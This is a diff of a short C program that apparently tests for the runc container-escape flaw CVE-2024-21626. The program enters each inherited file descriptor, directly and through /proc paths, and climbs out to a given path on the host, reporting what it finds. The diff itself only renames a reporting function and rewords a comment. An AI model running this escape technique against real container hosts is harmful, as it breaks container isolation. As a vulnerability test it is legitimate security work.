@@ -1,6 +1,6 @@
-/* fs_fd_cwd.c PATH - a directory somebody forgot to close (CVE-2024-21626): goes to each
- * descriptor as a directory, by number and by its name in /proc, and from there to the host's
- * PATH. Says which descriptors there are. */
+/* fs_fd_cwd PATH - looks for an inherited descriptor of a directory (CVE-2024-21626): enters each
+ * descriptor as a directory, by number and by its name in /proc, and goes from there to PATH of the
+ * host. Prints which descriptors there are. */
 #include <fcntl.h>
 #include <stdlib.h>
 #include <sys/stat.h>
@@ -38,15 +38,15 @@ int main(int argc, char **argv)
 		if (fstat(fd, &st) == 0)
 			printf("fd %d mode %o\n", fd, st.st_mode & S_IFMT);
 		if (fchdir(fd) == 0)
-			tell("fchdir", climb(argv[1]));
+			report("fchdir", climb(argv[1]));
 		for (size_t i = 0; i < sizeof forms / sizeof *forms; i++) {
 			(void)snprintf(name, sizeof name, forms[i], fd);
 			if (chdir(name) == 0) {
-				tell(name, 0);
-				tell("climb", climb(argv[1]));
+				report(name, 0);
+				report("climb", climb(argv[1]));
 			}
 		}
 	}
-	tell("end", -1);
+	report("end", -1);
 	return 0;
 }
